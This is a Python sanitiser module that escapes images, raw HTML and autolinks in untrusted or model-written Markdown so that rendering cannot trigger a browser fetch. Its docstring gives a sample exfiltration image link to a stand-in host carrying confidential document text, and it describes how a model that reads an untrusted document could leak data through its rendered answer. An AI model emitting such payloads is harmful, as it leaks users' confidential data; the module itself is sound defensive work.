"""Untrusted text made safe to render as Markdown: nothing in it can make a browser fetch.

Why this exists: answers are written by a model that has read an untrusted document, and
document names, headings, warnings and server messages come from outside too. Rendered as-is,
a Markdown image such as `![x](https://evil.example/p.png?d=CONFIDENTIAL)` makes every browser
that opens the session send document text to that host, and raw HTML (`<img src=…>`) does the
same in any Markdown viewer that renders HTML — the exported session opened in an editor's
preview, say. Everything the app shows that it did not write itself goes through
`safe_markdown` once, so there is one rule to review and test:

- images (inline, reference-style, inside links) are never loaded: their `!` is escaped, so
  each becomes an ordinary link (its alt text as the link text) the user may choose to open;
- every `<` that could start raw HTML, a comment, or an autolink is escaped, so tags are shown
  as text (optionally keeping a few attribute-less formatting tags that cannot fetch);
- code blocks and code spans are left exactly as they are: nothing inside them is interpreted,
  and answers about code are full of `<T>` and `vec![…]`;
- Streamlit's own extensions (`:material/icon:`, `:red[text]`, emoji shortcodes, `$math$`) are
  kept: they render from assets bundled with Streamlit, and KaTeX runs untrusted (no
  `\\includegraphics`, no `\\href`).

Where code is, is decided by a CommonMark parser (markdown-it-py, the rules the browser's
react-markdown/micromark also follow), and the result is checked by parsing it again: if any
image or HTML survives — an edge where our reading of the structure differs — the text is
escaped everywhere, code included, and as a last resort shown as one literal code block. So
the answer is safe for every input, including every half-written prefix of a streamed answer.

Pure: no I/O, no UI imports; used by the Streamlit pages and the Markdown export."""

from __future__ import annotations

import logging
import re
import string
import textwrap
from collections.abc import Iterable, Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

log = logging.getLogger(__name__)

__all__ = ["HARMLESS_TAGS", "fetching_constructs", "safe_markdown"]

# Attribute-less tags that cannot load anything; callers may keep some (the export's <sub>).
HARMLESS_TAGS = frozenset({"b", "br", "code", "em", "i", "kbd", "mark", "s", "small", "strong",
                           "sub", "sup", "u"})

_PUNCTUATION = frozenset(string.punctuation)
_TAG = re.compile(r"</?([a-z]+)>")
# CommonMark with raw HTML on (as most Markdown viewers render), plus GFM tables and
# strikethrough (as Streamlit's remark-gfm does): the strictest reading of the text.
_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def safe_markdown(text: str, *, keep_tags: Iterable[str] = ()) -> str:
    """`text` with every image, raw HTML tag and autolink neutralised, everything else as
    written. Idempotent, and safe for any input (see the module docstring for why and how).

    `keep_tags` names attribute-less formatting tags from HARMLESS_TAGS to leave as HTML, for
    text the app composed itself (the export wraps its stats line in `<sub>`)."""
    keep = frozenset(keep_tags)
    if not keep <= HARMLESS_TAGS:
        unknown = sorted(keep - HARMLESS_TAGS)
        raise ValueError(f"only attribute-less formatting tags can be kept, not {unknown}")
    # Judge the text Streamlit will render: it dedents and strips every body (clean_text), which
    # can turn an indented code block — left alone here — into a live paragraph.
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    text = textwrap.dedent(text).strip()
    if "<" not in text and "![" not in text:
        return text  # nothing to neutralise: the common case, kept cheap for streaming
    safe = _escape(text, keep, honour_code=True)
    if not fetching_constructs(safe, keep_tags=keep):
        return safe
    log.debug("code regions misread; escaping the whole text, code included")
    safe = _escape(text, keep, honour_code=False)
    if not fetching_constructs(safe, keep_tags=keep):
        return safe
    log.warning("text still rendered as HTML after escaping; showing it as a code block")
    return _as_code_block(text)


def fetching_constructs(text: str, *, keep_tags: Iterable[str] = ()) -> list[str]:
    """What in `text` a CommonMark renderer with raw HTML on would turn into an image, raw HTML
    or an autolink — each may load a URL or hide one. Empty means safe to render. Tests and
    safe_markdown's own check use it."""
    keep = frozenset(keep_tags)
    found: list[str] = []
    for token in _walk(_PARSER.parse(text)):
        if token.type == "image":
            found.append(f"image {token.attrGet('src')}")
        elif token.type == "html_block":
            found.append(f"html block {token.content.strip()[:80]!r}")
        elif token.type == "html_inline" and not _kept_tag(token.content, keep):
            found.append(f"html {token.content[:80]!r}")
        elif token.type == "link_open" and token.markup in {"autolink", "linkify"}:
            found.append(f"autolink {token.attrGet('href')}")
    return found


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _walk(token.children)


def _kept_tag(text: str, keep: frozenset[str]) -> bool:
    match = _TAG.fullmatch(text)
    return bool(match and match.group(1) in keep)


def _escape(text: str, keep: frozenset[str], *, honour_code: bool) -> str:
    """Escape images and tags line by line; with `honour_code`, leave the code blocks and code
    spans the parser finds untouched (without it, escape everywhere: the safe fallback)."""
    lines = text.split("\n")
    code: set[int] = set()
    table: set[int] = set()
    blocks: dict[int, int] = {}  # first line of a paragraph or heading → its end (exclusive)
    if honour_code:
        for token in _PARSER.parse(text):
            if token.map is None:
                continue
            start, end = token.map
            if token.type in {"fence", "code_block"}:
                code.update(range(start, end))
            elif token.type == "table_open":
                table.update(range(start, end))
            elif token.type == "inline":
                blocks.setdefault(start, end)
    out: list[str] = []
    number = 0
    while number < len(lines):
        line = lines[number]
        if number in code:
            out.append(line)
        elif number in table:
            out.append("|".join(_escape_inline(cell, keep, spans=True) for cell in _cells(line)))
        elif number in blocks:
            end = blocks[number]
            out.append(_escape_inline("\n".join(lines[number:end]), keep, spans=True))
            number = end
            continue
        else:
            out.append(_escape_inline(line, keep, spans=False))
        number += 1
    return "\n".join(out)


def _cells(line: str) -> list[str]:
    """A table row split at its unescaped pipes, as GFM does before reading any code span."""
    cells: list[str] = []
    start = 0
    for index, char in enumerate(line):
        if char == "|" and (index == 0 or line[index - 1] != "\\"):
            cells.append(line[start:index])
            start = index + 1
    cells.append(line[start:])
    return cells


def _escape_inline(text: str, keep: frozenset[str], *, spans: bool) -> str:
    """One block's text with `![` and `<` escaped outside code spans (when `spans`; a code span
    is a backtick run closed by the next run of the same length, as CommonMark reads it)."""
    out: list[str] = []
    index, length = 0, len(text)
    while index < length:
        char = text[index]
        if char == "\\" and index + 1 < length and text[index + 1] in _PUNCTUATION:
            out.append(text[index:index + 2])  # already escaped: stays literal
            index += 2
        elif char == "`":
            run_end = index
            while run_end < length and text[run_end] == "`":
                run_end += 1
            close = _closing_run(text, run_end, run_end - index) if spans else None
            out.append(text[index:close or run_end])
            index = close or run_end
        elif char == "<":
            tag = _TAG.match(text, index)
            if tag and tag.group(1) in keep:
                out.append(tag.group())
                index = tag.end()
            else:
                out.append("\\<")
                index += 1
        elif char == "!" and text.startswith("[", index + 1):
            out.append("\\!")
            index += 1
        else:
            out.append(char)
            index += 1
    return "".join(out)


def _closing_run(text: str, start: int, size: int) -> int | None:
    """The end of the first backtick run of exactly `size` from `start`, or None."""
    index = text.find("`", start)
    while index != -1:
        run_end = index
        while run_end < len(text) and text[run_end] == "`":
            run_end += 1
        if run_end - index == size:
            return run_end
        index = text.find("`", run_end)
    return None


def _as_code_block(text: str) -> str:
    """The whole text as one literal code block: a fence longer than any backtick run in it
    cannot be closed from inside."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}text\n{text}\n{fence}"
